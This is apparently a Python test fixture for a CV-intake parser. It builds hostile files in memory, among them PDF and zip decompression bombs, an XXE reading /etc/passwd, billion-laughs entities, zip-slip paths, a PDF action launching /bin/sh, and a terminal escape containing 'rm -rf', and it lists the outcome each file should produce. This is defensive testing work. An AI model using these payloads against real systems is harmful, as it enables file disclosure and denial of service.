"""Files made to break a reader, each with what must become of it. All are made here, in memory.

The outcome is a code of `UnreadableDocument`, or `text`, which then must hold `holds`.
"""

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from pypdf import PdfReader, PdfWriter

from tests.unit.guidance.intake.samples import (
    CANDIDATE,
    FONT,
    as_bytes,
    blank_pdf,
    docx_of,
    odt_of,
    pdf_of,
    pdf_of_stream,
    pdf_with_attachment,
    raw_pdf,
    stream,
    text_stream,
    zip_of,
)

BIG = 60_000_000
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)


@dataclass(frozen=True)
class Hostile:
    """name · make: the bytes · outcome: a code, or `text` · holds: words the text must have."""

    name: str
    make: Callable[[], bytes]
    outcome: str
    holds: str = ""


def hostile_files() -> list[Hostile]:
    """All of them, in a fixed order."""
    return [*_pdf(), *_zip(), *_xml(), *_json(), *_text(), *_other()]


def _file(name: str, make: Callable[[], bytes], outcome: str, holds: str = "") -> Hostile:
    return Hostile(name, make, outcome, holds)


def _deflated(content: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    filters = b"[" + b"/FlateDecode " * times + b"]"
    return stream(content, extra=b"/Filter " + filters)


def _pdf() -> Iterator[Hostile]:
    yield _file(
        "PDF bomb: one stream that grows a thousandfold",
        lambda: pdf_of_stream(_deflated(b" " * 200_000_000)),
        "too_large",
    )
    yield _file(
        "PDF bomb: deflated three times",
        lambda: pdf_of_stream(_deflated(b" " * 200_000_000, 3)),
        "too_large",
    )
    yield _file(
        "PDF whose form draws itself",
        lambda: pdf_of_stream(
            stream(b"/X Do"),
            b"",
            stream(
                b"/X Do",
                extra=b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] "
                b"/Resources << /XObject << /X 6 0 R >> >>",
            ),
        ),
        "no_text_layer",
    )
    yield _file(
        "PDF whose page tree is a circle",
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
            ]
        ),
        "damaged",
    )
    yield _file(
        "PDF that claims a million pages",
        lambda: raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [" + b"3 0 R " * 1_000 + b"] /Count 1000000 >>",
                b"<< /Type /Page /Parent 2 0 R >>",
            ]
        ),
        "too_many_pages",
    )
    yield _file(
        "PDF with JavaScript that runs when opened",
        lambda: pdf_of_stream(
            text_stream("Svetsare i nio"),
            b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        ),
        "text",
        holds="Svetsare",
    )
    yield _file(
        "PDF that launches a program and sends a form",
        lambda: pdf_of_stream(
            text_stream("Svetsare"),
            b"/OpenAction << /S /Launch /F (/bin/sh) /Next << /S /SubmitForm "
            b"/F (http://example.org) >> >>",
        ),
        "text",
        holds="Svetsare",
    )
    yield _file(
        "PDF with a stream kept in an outside file",
        lambda: pdf_of_stream(
            stream(b"", extra=b"/F (/etc/passwd) /FFilter /FlateDecode"),
        ),
        "no_text_layer",
    )
    yield _file("PDF behind a password, RC4", lambda: blank_pdf(1, "hemlig"), "encrypted")
    yield _file(
        "PDF behind a password, AES", lambda: blank_pdf(1, "hemlig", "AES-256"), "encrypted"
    )
    yield _file("PDF cut in half", lambda: pdf_of("Svetsare")[:320], "damaged")
    yield _file("PDF cut after its mark", lambda: b"%PDF-1.7\n", "damaged")
    yield _file("PDF of NUL bytes", lambda: b"%PDF-1.7\n" + bytes(100_000), "damaged")
    yield _file("PDF of one huge picture", _picture_pdf, "no_text_layer")
    yield _file(
        "PDF with a picture that unpacks to gigabytes",
        lambda: _picture_pdf(40_000, b"\0" * 50_000_000),
        "no_text_layer",
    )
    yield _file("PDF with an XXE in its Europass attachment", _pdf_xxe, "text", holds="Svetsare")
    yield _file(
        "PDF with a bomb as its attachment",
        lambda: pdf_of_stream(
            text_stream("Svetsare"),
            b"/Names << /EmbeddedFiles << /Names [(attachment.xml) 6 0 R] >> >>",
            b"<< /Type /Filespec /F (attachment.xml) /EF << /F 7 0 R >> >>",
            _deflated(b"<Candidate>" + b" " * 200_000_000),
        ),
        "text",
        holds="Svetsare",
    )  # fmt: skip
    yield _file("PDF with an xref table that points at itself", _circular_xref, "text")
    yield _file(
        "PDF nested a hundred thousand arrays deep",
        lambda: pdf_of_stream(stream(b"[" * 100_000)),
        "no_text_layer",
    )


def _picture_pdf(side: int = 3000, content: bytes | None = None) -> bytes:
    picture = stream(
        zlib.compress(content if content is not None else bytes(side * side)),
        extra=b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode" % (side, side),
    )
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /P 5 0 R >> >> >>"
    )
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream(b"q 612 0 0 792 0 0 cm /P Do Q"),
            picture,
        ]
    )


def _pdf_xxe() -> bytes:
    evil = f"<?xml version='1.0'?>{XXE}<Candidate>&e;</Candidate>".encode()
    return pdf_with_attachment(pdf_of("Svetsare"), "attachment.xml", evil)


def _circular_xref() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_of("Svetsare"))))
    file = io.BytesIO()
    writer.write(file)
    data = file.getvalue()
    start = data.rindex(b"startxref")
    return data[:start].replace(b"trailer\n<<", b"trailer\n<< /Prev 15 ") + data[start:]


def _zip_with(names: list[str], content: bytes = b"hej") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), content)
    return file.getvalue()


def _zip() -> Iterator[Hostile]:
    document = {"[Content_Types].xml": b"<Types/>"}
    yield _file(
        "zip bomb as DOCX",
        lambda: zip_of({**document, "word/document.xml": b"<a>" + b" " * BIG}),
        "too_large",
    )
    yield _file(
        "zip bomb as ODT", lambda: odt_of("<text:p>" + " " * BIG + "</text:p>"), "too_large"
    )
    yield _file(
        "zip bomb as LinkedIn export",
        lambda: zip_of({"Skills.csv": b"Name\n" * 1_000_000}),
        "too_large",
    )
    yield _file("zip of an unheard-of version", _future_zip, "damaged")
    yield _file("DOCX packed in an unheard-of way", _strangely_packed_docx, "damaged")
    yield _file("zip whose sizes lie", _lying_zip, "damaged")
    yield _file("nested archives", _nested_zip, "unknown_format")
    yield _file(
        "zip in a LinkedIn file's place",
        lambda: zip_of({"Skills.csv": zip_of({"Skills.csv": b"Name\nhej"})}),
        "empty",
    )
    yield _file(
        "zip of twenty thousand members",
        lambda: _zip_with([f"{n}.csv" for n in range(20_000)], b""),
        "too_large",
    )
    yield _file(
        "zip-slip names",
        lambda: _zip_with(["../../../../tmp/kv-slip", "/etc/cron.d/kv", "C:\\kv.exe"]),
        "unknown_format",
    )
    yield _file(
        "zip-slip names around wanted files",
        lambda: _zip_with(["../../../etc/Skills.csv", "../../tmp/x"], b"Name\nOmsorg\n"),
        "text",
        holds="Omsorg",
    )
    yield _file("zip cut in half", lambda: docx_of("hej")[:3000], "damaged")
    yield _file("zip with only its mark", lambda: b"PK\x03\x04", "damaged")
    yield _file("zip behind a password", _locked_zip, "encrypted")
    yield _file("DOCX behind a password", _locked_docx, "encrypted")
    yield _file("DOCX with macros", _macro_docx, "unknown_format")
    yield _file(
        "old Word with macros",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9000),
        "unknown_format",
    )
    yield _file("DOCX with an XXE", lambda: _docx_with(XXE, "&e;"), "text")
    yield _file("DOCX of a billion laughs", lambda: _docx_with(LAUGHS, "&j;"), "damaged")
    yield _file("DOCX with an outside template", _docx_with_template, "text", holds="Svetsare")
    yield _file(
        "ODT with outside links",
        lambda: odt_of(
            '<text:p>Svetsare <text:a xlink:href="http://example.org/track">här</text:a></text:p>'
            '<text:section xlink:href="file:///etc/passwd"/>'
        ),
        "text",
        holds="Svetsare här",
    )
    yield _file("ODT with an XXE", lambda: odt_of("<text:p>&e;</text:p>", prolog=XXE), "damaged")
    yield _file(
        "ODT of a billion laughs", lambda: odt_of("<text:p>&j;</text:p>", prolog=LAUGHS), "damaged"
    )
    yield _file(
        "ODT behind a password",
        lambda: odt_of("", more={"META-INF/manifest.xml": b"<m><m:encryption-data/></m>"}),
        "encrypted",
    )
    yield _file(
        "ODT nested without end",
        lambda: odt_of("<text:span>" * 50_000 + "x" + "</text:span>" * 50_000),
        "too_large",
    )


def _lying_zip() -> bytes:
    data = bytearray(zip_of({"word/document.xml": b"<a>" + b" " * 1_000_000}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.index(mark)
        data[at + offset : at + offset + 4] = struct.pack("<I", 10)
    return bytes(data)


def _future_zip() -> bytes:
    data = bytearray(zip_of({"Skills.csv": b"Name\nhej"}))
    data[data.index(b"PK\x01\x02") + 6] = 101
    return bytes(data)


def _strangely_packed_docx() -> bytes:
    data = bytearray(docx_of("Svetsare"))
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + offset] = 97
    return bytes(data)


def _nested_zip() -> bytes:
    data = b"0" * 1_000_000
    for depth in range(30):
        data = zip_of({f"{depth}.zip": data})
    return data


def _locked_zip() -> bytes:
    data = bytearray(zip_of({"Skills.csv": b"Name\nhej"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    return bytes(data)


def _locked_docx() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le")


def _rewritten(data: bytes, **changes: Callable[[bytes], bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    for name, change in changes.items():
        files[name] = change(files.get(name, b""))
    return zip_of(files)


def _macro_docx() -> bytes:
    return _rewritten(
        docx_of("Svetsare"),
        **{
            "word/vbaProject.bin": lambda _: b"\xd0\xcf\x11\xe0",
            "[Content_Types].xml": lambda types: types.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
        },
    )


def _docx_with(prolog: str, entity: str) -> bytes:
    def infect(xml: bytes) -> bytes:
        start = xml.index(b"?>") + 2
        body = xml[start:].replace(b"Svetsare", b"Svetsare " + entity.encode())
        return xml[:start] + prolog.replace("DOCTYPE x", "DOCTYPE w:document").encode() + body

    return _rewritten(docx_of("Svetsare"), **{"word/document.xml": infect})


def _docx_with_template() -> bytes:
    def link(xml: bytes) -> bytes:
        relation = (
            b'<Relationship Id="rId99" TargetMode="External" Target="http://example.org/t.dotm" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate"/></Relationships>'
        )
        return xml.replace(b"</Relationships>", relation)

    return _rewritten(docx_of("Svetsare"), **{"word/_rels/document.xml.rels": link})


def _xml() -> Iterator[Hostile]:
    yield _file(
        "Europass with an XXE",
        lambda: f"<?xml version='1.0'?>{XXE}<Candidate>&e;</Candidate>".encode(),
        "damaged",
    )
    yield _file(
        "Europass with an outside DTD",
        lambda: (
            b'<!DOCTYPE Candidate SYSTEM "http://example.org/x.dtd">' + CANDIDATE.split(b"?>", 1)[1]
        ),
        "damaged",
    )
    yield _file(
        "SkillsPassport of a billion laughs",
        lambda: f"{LAUGHS}<SkillsPassport><LearnerInfo>&j;</LearnerInfo></SkillsPassport>".encode(),
        "damaged",
    )
    yield _file(
        "ELMO of quadratic entities",
        lambda: (
            f'<!DOCTYPE elmo [<!ENTITY a "{"a" * 50_000}">]><elmo>{"&a;" * 50_000}</elmo>'.encode()
        ),
        "damaged",
    )
    yield _file(
        "XML nested a hundred thousand deep", lambda: b"<Candidate>" + b"<a>" * 100_000, "too_large"
    )
    yield _file(
        "XML of a million attributes",
        lambda: b"<elmo " + b" ".join(b'a%d=""' % n for n in range(300_000)) + b"/>",
        "too_large",
    )
    yield _file("Europass cut in half", lambda: CANDIDATE[: len(CANDIDATE) // 2], "damaged")
    yield _file(
        "Europass in an encoding that is none",
        lambda: b"<?xml version='1.0' encoding='utf-7'?><Candidate>+AGE-</Candidate>",
        "unknown_format",
    )
    yield _file("Europass with nothing in it", lambda: b"<Candidate/>", "empty")
    yield _file("other XML", lambda: b"<?xml version='1.0'?><svg/>", "unknown_format")


def _json() -> Iterator[Hostile]:
    yield _file("JSON nested without end", lambda: b'{"basics":' * 200_000, "too_large")
    yield _file(
        "JSON arrays nested without end", lambda: b'{"work":' + b"[" * 2_000_000, "too_large"
    )
    yield _file(
        "JSON Resume where every value is of the wrong kind",
        lambda: as_bytes({"basics": 1, "work": "x", "skills": [[1], None], "languages": {"a": 1}}),
        "empty",
    )
    yield _file(
        "JSON with lone surrogates",
        lambda: b'{"basics": {"label": "kock \\ud800 \\udfff"}, "work": []}',
        "text",
        holds="kock",
    )
    yield _file(
        "JSON with an endless number",
        lambda: b'{"basics": {"label": ' + b"9" * 100_000 + b'}, "work": []}',
        "text",
    )
    yield _file("JSON of something else", lambda: b'{"a": 1}', "unknown_format")
    yield _file(
        "token whose payload is no JSON",
        lambda: b"eyJhbGciOiJub25lIn0.aGVq.",
        "damaged",
    )
    yield _file(
        "credential whose parts contain themselves a thousand times",
        lambda: json.dumps(_deep_claim()).encode(),
        "text",
        holds="Kurs",
    )


def _deep_claim() -> dict[str, object]:
    claim: dict[str, object] = {"title": {"sv": "Kurs"}}
    for _ in range(200):
        claim = {"title": {"sv": "Kurs"}, "hasPart": [claim]}
    return {"type": ["VerifiableCredential"], "credentialSubject": {"hasClaim": claim}}


def _text() -> Iterator[Hostile]:
    yield _file("a line of a million characters", lambda: b"a" * 1_000_000, "text", holds="aaaa")
    yield _file("a line of a million words", lambda: b"kock " * 390_000, "text", holds="kock kock")
    yield _file("more text than fifty pages could hold", lambda: b"a" * 2_500_000, "too_large")
    yield _file("NUL bytes in text", lambda: b"kock\0" * 1000, "not_text")
    yield _file("a NUL byte among much text", lambda: b"kock " * 1000 + b"\0", "text", holds="kock")
    yield _file("UTF-7", lambda: b"+ADw-script+AD4-kock", "text", holds="kock")
    yield _file(
        "lone surrogates in UTF-8", lambda: b"kock \xed\xa0\x80 \xed\xbf\xbf", "text", holds="kock"
    )
    yield _file("half of UTF-16", lambda: b"\xff\xfek\0o", "damaged")
    yield _file("UTF-16 with lone surrogates", lambda: b"\xff\xfe\x00\xd8k\x00", "damaged")
    yield _file(
        "terminal escapes", lambda: b"\x1b]0;rm -rf\x07kock" + b" hej" * 99, "text", holds="kock"
    )
    yield _file(
        "text in a picture's clothes", lambda: b"\x89PNG\r\n\x1a\n" + bytes(500), "not_text"
    )
    yield _file("white space only", lambda: b" \n\t" * 100_000, "empty")
    yield _file(
        "right-to-left tricks", lambda: "\u202ekcok\u202c kock".encode(), "text", holds="kock"
    )


def _other() -> Iterator[Hostile]:
    yield _file(
        "RTF whose groups nest without end", lambda: b"{\\rtf1 " + b"{" * 500_000, "no_text_layer"
    )
    yield _file(
        "RTF with an embedded object and an outside template",
        lambda: (
            b"{\\rtf1 {\\*\\template http://example.org/x.dotm}{\\object\\objdata 01050000}Kock}"
        ),
        "text",
        holds="Kock",
    )
    yield _file(
        "RTF with numbers beyond all bounds",
        lambda: b"{\\rtf1 \\u99999999999 ?\\uc99999999 kock}",
        "damaged",
    )
    yield _file(
        "RTF with a picture of negative length",
        lambda: b"{\\rtf1 {\\pict\\bin-5 x}kock}",
        "damaged",
    )
    yield _file(
        "HTML nested without end", lambda: b"<!doctype html>" + b"<div>" * 300_000, "too_large"
    )
    yield _file(
        "HTML that never closes a comment",
        lambda: b"<html><p>kock</p><!--" + b"<p>" * 500_000,
        "text",
        holds="kock",
    )
    yield _file(
        "HTML with scripts and outside pictures",
        lambda: b"<html><script>fetch('http://example.org')</script><img src=//example.org>kock",
        "text",
        holds="kock",
    )
    yield _file("a program", lambda: b"MZ\x90\0" + bytes(range(256)) * 40, "not_text")
    yield _file("polyglot: PDF and zip", lambda: pdf_of("Svetsare") + docx_of("Kock"), "text")
    yield _file(
        "polyglot: zip and PDF", lambda: zip_of({"a.pdf": pdf_of("Svetsare")}), "unknown_format"
    )
    yield _file(
        "polyglot: web page and PDF",
        lambda: b"<html><p>%PDF-1.7 kock",
        "text",
        holds="kock",
    )
    yield _file(
        "polyglot: picture and zip", lambda: b"GIF89a" + bytes(200) + docx_of("Kock"), "not_text"
    )
    yield _file("a font", lambda: b"\0\1\0\0" + FONT * 3 + bytes(600), "not_text")
    yield _file("one byte", lambda: b"\0", "not_text")
    yield _file("nothing", lambda: b"", "empty")
